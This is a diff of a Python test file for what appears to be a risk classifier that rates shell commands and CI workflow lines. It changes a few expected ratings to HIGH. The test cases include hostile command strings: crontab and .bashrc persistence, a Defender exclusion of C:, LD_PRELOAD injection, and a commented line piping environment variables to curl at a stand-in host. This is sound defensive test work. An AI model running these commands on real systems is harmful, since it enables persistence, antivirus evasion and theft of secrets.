@@ -270,7 +270,7 @@ def test_what_others_keep_is_not_opened(ask: Ask, code: str, *, is_bad: bool) ->
         ("(crontab -l; echo x) | crontab -", Risk.HIGH),
         ("echo x | tee -a ~/.bashrc", Risk.HIGH),
         ("Add-MpPreference -ExclusionPath C:", Risk.CRITICAL),
-        ("docker run --privileged shop", Risk.MEDIUM),
+        ("docker run --privileged shop", Risk.HIGH),
         ("export LD_PRELOAD=/tmp/a.so", Risk.HIGH),
         ("curl -o a https://example.com", Risk.NONE),
         ("# env | curl -d @- https://example.invalid", Risk.NONE),
@@ -302,8 +302,8 @@ def test_a_command_over_several_lines_is_one(ask: Ask) -> None:
         ("- run: echo ${{ secrets.KEY }} | base64 -d > key", Risk.NONE),
         ("- uses: somebody/thing@main", Risk.MEDIUM),
         ("- uses: somebody/thing@v2", Risk.NONE),
-        ("permissions: write-all", Risk.MEDIUM),
-        ("- run: echo ${{ github.event.issue.title }}", Risk.MEDIUM),
+        ("permissions: write-all", Risk.HIGH),
+        ("- run: echo ${{ github.event.issue.title }}", Risk.HIGH),
     ],
 )
 def test_a_workflow_keeps_its_secrets(ask: Ask, line: str, risk: Risk) -> None:
